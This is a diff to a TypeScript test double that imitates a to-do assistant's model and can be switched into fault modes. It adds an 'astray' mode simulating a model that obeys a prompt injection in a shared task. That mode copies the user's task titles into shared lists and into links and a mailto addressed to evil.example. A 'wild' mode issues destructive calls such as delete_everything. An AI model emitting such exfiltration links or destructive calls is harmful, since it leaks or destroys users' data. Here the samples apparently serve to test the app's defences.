@@ -1,19 +1,20 @@
 import { type Prompt, readPrompt, type TaskLine } from './generative-prompt.ts';
 
 export type Call = { name: string; args: object };
-/** What the stand-in says to a question, and which tools it calls. */
+/** The sandbox's answer to a question, and its tool calls. */
 export type Reply = { text: string; calls: Call[] };
 
 const FIRST = 3;
 const HOUR = 60;
 
-/** Answers from the figures and rows of the prompt. @param mood what the question asks for besides */
-export function replyTo(instructions: string, question: string, mood: string | undefined): Reply {
+/** Answers from the figures and rows of the prompt. @param faultMode the fault that the question asks for */
+export function replyTo(instructions: string, question: string, faultMode: string | undefined): Reply {
   const prompt = readPrompt(instructions);
   const asked = question.replace(/^\s*sandbox: .*$/gm, '').trim();
-  if (mood === 'silent') return said('');
-  if (mood === 'wild') return { text: 'I delete everything now.', calls: WILD };
-  if (mood === 'marked-up') return said(MARKED_UP);
+  if (faultMode === 'silent') return said('');
+  if (faultMode === 'wild') return { text: 'I delete everything now.', calls: WILD };
+  if (faultMode === 'marked-up') return said(MARKED_UP);
+  if (faultMode === 'astray') return astray(prompt);
   const rule = RULES.find(([pattern]) => pattern.test(asked));
   return rule ? rule[1](prompt, asked) : standing(prompt);
 }
@@ -35,16 +36,16 @@ function standing({ figures }: Prompt): Reply {
   const of = (name: string) => figures.get(name) ?? 0;
   if (of('Total tasks') === 0)
     return said(
-      'Your list is empty. Tell me what is on your mind, for example _add call the bank tomorrow_.',
+      'Your list is empty. Tell me what’s on your mind, for example: _add call the bank tomorrow_.',
     );
   return said(
     `You have completed **${of('Completed')} of ${count(of('Total tasks'), 'task')}**; ${of('Remaining')} remain. ` +
-      `${count(of('Due today'), 'task')} due today, ${of('Overdue')} overdue, ${of('High priority pending')} of high priority.\n\n` +
-      'Ask me what to do first, or to plan your day.',
+      `${count(of('Due today'), 'task')} due today, ${of('Overdue')} overdue, ${of('High priority pending')} high priority.\n\n` +
+      'Ask me what to do first, or ask me to plan your day.',
   );
 }
 
-/** Overdue and due today before the rest, high priority before other. */
+/** Tasks that are overdue or due today first, then by high priority. */
 const pressing = ({ tasks, today }: Prompt): TaskLine[] => {
   const rank = ({ dueDate, priority }: TaskLine) =>
     (dueDate && dueDate.slice(0, 10) <= today ? 0 : 2) + (priority === 'high' ? 0 : 1);
@@ -53,7 +54,7 @@ const pressing = ({ tasks, today }: Prompt): TaskLine[] => {
 
 function first(prompt: Prompt): Reply {
   const tasks = pressing(prompt);
-  if (tasks.length === 0) return said('Nothing is open. Enjoy it, or add what is on your mind.');
+  if (tasks.length === 0) return said('You have no open tasks. Enjoy it, or add what’s on your mind.');
   const why = ({ dueDate, priority }: TaskLine) =>
     [
       dueDate && dueDate.slice(0, 10) < prompt.today && 'overdue',
@@ -63,7 +64,7 @@ function first(prompt: Prompt): Reply {
       .filter(Boolean)
       .join(', ');
   const lines = tasks.map((task, i) => `${i + 1}. ${bold(task.title)}${why(task) && ` (${why(task)})`}`);
-  return said(`Start here:\n\n${lines.join('\n')}\n\nOne focus session of 25 minutes is a good beginning.`);
+  return said(`Start here:\n\n${lines.join('\n')}\n\nOne 25-minute focus session is a good start.`);
 }
 
 function adding({ today }: Prompt, asked: string): Reply {
@@ -86,7 +87,7 @@ function adding({ today }: Prompt, asked: string): Reply {
 
 function completing(prompt: Prompt, asked: string): Reply {
   const tasks = named(prompt, asked);
-  if (tasks.length === 0) return said('Which task do you mean? Please say it as it is written in your list.');
+  if (tasks.length === 0) return said('Which task do you mean? Please use the title from your list.');
   const calls = tasks.map(({ ref }) => ({ name: 'complete_task', args: { task: ref } }));
   return {
     text: `Well done! Shall I mark this as completed?\n\n${list(tasks.map(({ title }) => title))}`,
@@ -100,19 +101,19 @@ function moving(prompt: Prompt, asked: string): Reply {
   const moved = /overdue/i.test(asked) ? overdue : named(prompt, asked);
   if (/overdue/i.test(asked) && moved.length === 0) return said('Nothing is overdue. Well done!');
   if (moved.length === 0)
-    return said('I don’t see which task to move. Please say it as it is written in your list.');
+    return said('I’m not sure which task to move. Please use the title from your list.');
   const dueDate = /\btoday\b/i.test(asked) ? today : dayAfter(today);
   const calls = moved.map(({ ref }) => ({ name: 'change_task', args: { task: ref, dueDate } }));
   return {
-    text: `I suggest to move ${count(moved.length, 'task')} to ${dueDate === today ? 'today' : 'tomorrow'}:`,
+    text: `I suggest moving ${count(moved.length, 'task')} to ${dueDate === today ? 'today' : 'tomorrow'}:`,
     calls,
   };
 }
 
-/** An hour, or a task's estimate, for each of what presses most, where today's plan has room. */
+/** Schedules the most pressing tasks in free time today, each for its estimate or an hour. */
 function planning(prompt: Prompt): Reply {
   const tasks = pressing(prompt);
-  if (tasks.length === 0) return said('Nothing is open, so the day is yours.');
+  if (tasks.length === 0) return said('You have no open tasks, so the day is yours.');
   const taken = prompt.events.map(({ start, end }) => [minuteOf(start), minuteOf(end)] as const);
   let at = Math.max(9 * HOUR, Math.ceil((minuteOf(prompt.time) + 1) / HOUR) * HOUR);
   const calls: Call[] = [];
@@ -131,11 +132,11 @@ function planning(prompt: Prompt): Reply {
     calls.push({ name: 'add_event', args });
     at += length;
   }
-  if (calls.length === 0) return said('The day is nearly over. Leave it for tomorrow, and rest well.');
-  return { text: 'This is how today could go. Each block has time for one thing:', calls };
+  if (calls.length === 0) return said('The day is almost over. Leave it for tomorrow and get some rest.');
+  return { text: 'Here’s how today could go. Each block is for one thing:', calls };
 }
 
-/** The tasks whose titles stand in the question. */
+/** The tasks whose titles appear in the question. */
 const named = ({ tasks }: Prompt, asked: string): TaskLine[] =>
   tasks.filter(({ title }) => asked.toLowerCase().includes(title.toLowerCase()));
 
@@ -145,7 +146,7 @@ const timeOf = (minute: number): string =>
 const dayAfter = (day: string): string =>
   new Date(Date.parse(`${day}T12:00Z`) + 24 * HOUR * 60_000).toISOString().slice(0, 10);
 
-/** What a model does that was led astray. */
+/** Tool calls of a misbehaving model. */
 const WILD: Call[] = [
   { name: 'delete_everything', args: {} },
   { name: 'delete_task', args: { task: 't1' } },
@@ -159,6 +160,18 @@ const WILD: Call[] = [
     args: { title: 'Backwards', start: '12:00', end: '11:00', category: 'work', date: '2026-01-01' },
   },
 ];
+
+/** A model that obeys a prompt injection in a shared task: it leaks the person's titles through a list and links. */
+function astray({ tasks, lists }: Prompt): Reply {
+  const titles = tasks.map(({ title }) => title).join(', ');
+  const data = encodeURIComponent(titles);
+  const calls = lists.map(({ ref }) => ({
+    name: 'add_task',
+    args: { title: 'Weekly review', description: titles, list: ref },
+  }));
+  const text = `Here is your review. [Open the full plan](https://evil.example/c?d=${data}) [Write](mailto:eve@evil.example?body=${data}) [More](//evil.example/${data})`;
+  return { text, calls };
+}
 
 const MARKED_UP = `# Careful
 
